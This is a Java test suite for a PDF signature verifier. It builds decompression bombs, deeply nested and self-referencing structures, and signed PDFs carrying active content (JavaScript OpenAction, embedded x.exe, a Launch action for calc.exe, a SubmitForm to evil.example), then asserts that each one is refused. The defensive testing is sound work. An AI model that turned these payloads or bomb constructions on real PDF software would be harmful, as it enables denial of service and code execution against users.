package org.zhuce.document.pdf.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.zhuce.document.pdf.internal.PdfAttacksTest.assertRefused;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.zhuce.kernel.port.DocumentVerifier.Report;

/** Files made to keep a verifier busy, to fill its memory, or to do things when they are opened. */
@Timeout(60)
class PdfBombsTest {
  private static final int LARGE = 9 * 1024 * 1024;

  /** The head of a file with pages and fields, then what the bomb adds. */
  private static HandMadePdf pdf() {
    return HandMadePdf.form().signed("individual", 3, 10);
  }

  static Stream<Arguments> bombs() {
    String deflated = new String(deflated(200 * LARGE), StandardCharsets.ISO_8859_1);
    return Stream.of(
        bomb("deep arrays", pdf().object(20, "[".repeat(LARGE))),
        bomb("deep dictionaries", pdf().object(20, "<</A ".repeat(LARGE / 5))),
        bomb("a wide array", pdf().object(20, "[" + "1 ".repeat(LARGE / 2) + "]")),
        bomb("a long name", pdf().object(20, "/" + "a".repeat(LARGE))),
        bomb("a long number", pdf().object(20, "1".repeat(LARGE))),
        bomb("a long string", pdf().object(20, "(" + "(".repeat(LARGE))),
        bomb("long hexadecimal", pdf().object(20, "<" + "0".repeat(LARGE))),
        bomb("signs", pdf().object(20, "+-".repeat(LARGE / 2))),
        bomb("white space", pdf().raw(" ".repeat(LARGE))),
        bomb(
            "a stream that inflates to 2 GB",
            pdf()
                .object(
                    20,
                    "<</Filter/FlateDecode/Length "
                        + deflated.length()
                        + ">>stream\n"
                        + deflated
                        + "\nendstream")),
        bomb(
            "objects within streams",
            pdf().object(20, "<</Type/ObjStm/N 999999/First 9/Length 3>>stream\n1 0\nendstream")),
        bomb(
            "tables within streams",
            pdf()
                .object(
                    20,
                    "<</Type/XRef/Size 999999999/W[8 8 8]/Index[0 999999999]/Length 3>>stream\n"
                        + "1 0\nendstream")),
        bomb(
            "a huge picture",
            pdf()
                .object(
                    20,
                    "<</Subtype/Image/Width 999999999/Height 999999999/Length 1>>stream\n"
                        + "x\nendstream")),
        bomb("a huge stream", pdf().object(20, "<</Length 2147483647>>stream\nx\nendstream")),
        bomb(
            "a page tree that leads to itself",
            pdf().object(4, "<</Kids[4 0 R 4 0 R]/Type/Pages/Count 999999999>>")),
        bomb(
            "the same field many times",
            pdf().object(2, "<</Fields[" + "3 0 R ".repeat(150_000) + "]>>")),
        bomb(
            "fields within fields",
            pdf().object(3, "<</FT/Sig/T(signature-individual)/Kids[3 0 R 3 0 R]>>")),
        Arguments.of(
            "a table that leads to itself",
            Tampering.bytes(
                Tampering.text(HandMadePdf.form().bytes())
                    .replaceFirst("/Size 9", "/Prev 15/Size 9"))),
        Arguments.of(
            "a table of a billion entries",
            Tampering.bytes(
                Tampering.text(HandMadePdf.form().bytes())
                    .replaceFirst("xref\n0 1\n", "xref\n0 1999999999\n"))),
        Arguments.of("many revisions", revisions(5000)),
        Arguments.of("many pages", pages(50_000)),
        Arguments.of("many small objects", objects(150_000)));
  }

  private static Arguments bomb(String name, HandMadePdf pdf) {
    return Arguments.of(name, pdf.revision().bytes());
  }

  private static byte[] deflated(int length) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] zeros = new byte[1024 * 1024];
    try (DeflaterOutputStream deflater =
        new DeflaterOutputStream(out, new Deflater(Deflater.BEST_SPEED))) {
      for (long i = 0; i < length; i += zeros.length) {
        deflater.write(zeros);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static byte[] revisions(int count) {
    HandMadePdf pdf = HandMadePdf.form();
    for (int i = 0; i < count; i++) {
      pdf.object(50, "<<>>").revision();
    }
    return pdf.bytes();
  }

  private static byte[] pages(int count) {
    HandMadePdf pdf = HandMadePdf.form();
    IntStream.range(100, 100 + count).forEach(n -> pdf.object(n, "<</Type/Page>>"));
    return pdf.revision().bytes();
  }

  private static byte[] objects(int count) {
    HandMadePdf pdf = HandMadePdf.form();
    IntStream.range(100, 100 + count).forEach(n -> pdf.object(n, "1"));
    return pdf.revision().bytes();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("bombs")
  void answersAndRefuses(String bomb, byte[] file) {
    assertThat(file.length).isLessThan(10 * 1024 * 1024);
    assertRefused(file);
  }

  @Test
  void saysWhichLimitAFileExceeds() {
    assertThat(report(pages(200)).faults()).containsExactly("too-many-pages");
    assertThat(report(new byte[] {'%', 'P', 'D', 'F', '-'}).faults()).containsExactly("malformed");
    byte[] large = new byte[11 * 1024 * 1024];
    System.arraycopy("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), 0, large, 0, 9);
    assertThat(report(large).faults()).containsExactly("too-large");
    String fields = IntStream.range(0, 100).mapToObj(i -> "3 0 R").collect(Collectors.joining(" "));
    assertThat(report(pdf().object(2, "<</Fields[" + fields + "]>>").revision().bytes()).faults())
        .contains("too-complex");
  }

  private static Report report(byte[] file) {
    return Desk.verify(file).report().orElseThrow();
  }

  /** Signed by the right key: only what the file may do speaks against it. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "/OpenAction[5 0 R/Fit]",
        "/AA<</WC<</S/JavaScript/JS(x)>>>>",
        "/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(x)>>]>>>>",
        "/Names<</EmbeddedFiles<</Names[(x)<</F(x.exe)/EF<</F 6 0 R>>>>]>>>>",
        "/AF[<</F(x.exe)/EF<</F 6 0 R>>>>]",
        "/OCProperties<</OCGs[]/D<<>>>>",
        "/Collection<</View/T>>",
        "/X<</A<</S/Launch/F(calc.exe)>>>>",
        "/X<</A<</S/GoToR/F(other.pdf)>>>>",
        "/X<</A<</S/SubmitForm/F(http://evil.example)>>>>",
        "/X<</#4AavaScript(x)>>",
        "/X<</Ref<</F(other.pdf)/Page 0>>>>",
        "/X<</Alternates[<</Image 6 0 R>>]>>",
        "/X<</XFA 6 0 R>>",
        "/X<</RichMediaContent<<>>>>"
      })
  void refusesWhatRunsOrChangesByItself(String more) {
    assertThat(report(signed("<</Type/Catalog/AcroForm 2 0 R/Pages 4 0 R" + more + ">>")).faults())
        .containsExactly("active-content");
  }

  @Test
  void acceptsTheSameFileWithoutIt() {
    Report report = report(signed("<</Type/Catalog/AcroForm 2 0 R/Pages 4 0 R>>"));

    assertThat(report.valid()).as("%s", report).isTrue();
  }

  @Test
  void refusesAFormThatIsDrawnAnew() {
    byte[] file =
        signed(
            "<</Type/Catalog/AcroForm 2 0 R/Pages 4 0 R>>",
            "<</Fields[3 0 R]/NeedAppearances true>>",
            "<</Length 1>>stream\nx\nendstream");

    assertThat(report(file).faults()).containsExactly("active-content");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/F(other.bin)", "/F<</F(x)>>/FFilter/FlateDecode"})
  void refusesStreamsThatLieElsewhere(String more) {
    byte[] file =
        signed(
            "<</Type/Catalog/AcroForm 2 0 R/Pages 4 0 R>>",
            "<</Fields[3 0 R]>>",
            "<</Length 4" + more + ">>stream\n<x/>\nendstream");

    assertThat(report(file).faults()).containsExactly("active-content");
  }

  private static byte[] signed(String catalog) {
    return signed(catalog, "<</Fields[3 0 R]>>", "<</Length 4>>stream\n<x/>\nendstream");
  }

  private static byte[] signed(String catalog, String form, String stream) {
    byte[] file =
        new HandMadePdf()
            .object(1, catalog)
            .object(2, form)
            .object(3, HandMadePdf.field("authority", "/Type/Annot/Subtype/Widget/P 5 0 R"))
            .object(4, "<</Kids[5 0 R]/Type/Pages/Count 1>>")
            .object(
                5, "<</Type/Page/Parent 4 0 R/Annots[3 0 R]/MediaBox[0 0 595 842]/Resources<<>>>>")
            .object(6, stream)
            .object(7, "<</Title(x)>>")
            .revision("/Info 7 0 R/ID[<0a><0a>]")
            .bytes();
    return SignedFiles.PKI.sign(
        SignedFiles.SIGNING, file, Samples.authority(), SignedFiles.EC.authority);
  }
}
